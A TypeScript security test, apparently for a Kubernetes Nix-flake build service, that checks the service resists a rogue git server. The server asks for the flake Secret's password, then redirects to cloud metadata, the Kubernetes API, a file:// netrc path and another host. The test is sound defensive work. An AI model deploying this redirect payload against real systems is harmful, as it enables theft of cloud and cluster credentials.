import { type Attack, mustHold } from '../attack.ts';
import { outcomeOfBuild, request } from '../own-builds.ts';
import { inPod, serve } from '../own-pods.ts';

const canary = 'canary-of-git-redirects';

/** Asks for a password, then sends whoever has one elsewhere; tells at /seen who came with what. */
const program = (elsewhere: string) => `
const places = {
  metadata: 'http://169.254.169.254/latest/meta-data/',
  api: 'https://kubernetes.default.svc/api',
  file: 'file:///enbi/secret/netrc',
  elsewhere: '${elsewhere}/taken',
};
const seen = [];
require('http').createServer((request, response) => {
  const { authorization = '' } = request.headers;
  const [, what] = request.url.split('/');
  if (what === 'seen') return response.end(JSON.stringify(seen));
  seen.push(request.url + ' ' + Buffer.from(authorization.replace('Basic ', ''), 'base64'));
  const place = places[what.replace('.git', '')];
  if (place === undefined) return response.writeHead(404).end();
  if (authorization === '') return response.writeHead(401, { 'www-authenticate': 'Basic realm="x"' }).end();
  response.writeHead(302, { location: place }).end();
}).listen(8080);
`;

export const attack: Attack = {
  name: 'git-redirects',
  kind: 'reads what is not theirs',
  rights: 'the host of a private flake',
  steps:
    "asks for the password of the flake's Secret, then redirects git and archives to the cloud's metadata, to the API server, to a file of the Pod, and to another host",
  holds:
    'nobody but the host that the Secret names is sent its password, no place is read, and each build ends with a failure',
  quick: false,
  async run(session) {
    const elsewhere = await serve(session, 'elsewhere', program('http://127.0.0.1'));
    const host = await serve(session, 'host', program(`http://${elsewhere}:8080`));
    const netrc = `machine ${host} login user password ${canary}`;
    await session.attacker.create({
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { name: 'of-host' },
      stringData: { netrc },
    });
    const wishes = Object.entries(flakesAt(`http://${host}:8080`));
    for (const [name, flakeUrl] of wishes) await request(session, { name, flakeUrl, secretName: 'of-host' });
    for (const [name] of wishes) {
      const { status } = await outcomeOfBuild(session, name);
      mustHold(status.status !== 'Succeeded', `${name} was built`);
      mustHold(!JSON.stringify(status).includes(canary), `the status of ${name} tells the password`);
    }
    const seen = (pod: string) => inPod(session, pod, 'wget -q -O - http://127.0.0.1:8080/seen');
    mustHold((await seen('host')).includes(canary), 'the host itself was not given the password: nothing was tried');
    mustHold(!(await seen('elsewhere')).includes(canary), 'another host was given the password');
  },
};

function flakesAt(server: string): Readonly<Record<string, string>> {
  const archives = ['metadata', 'api', 'file', 'elsewhere'];
  // git waits two minutes for a place that does not answer, which is nobody's loss and would be the attack's time.
  const repositories = archives.filter((place) => place !== 'metadata');
  return Object.fromEntries([
    ...repositories.map((place) => [`git-${place}`, `git+${server}/${place}.git?ref=main`]),
    ...archives.map((place) => [`archive-${place}`, `tarball+${server}/${place}/flake.tar.gz`]),
  ]);
}
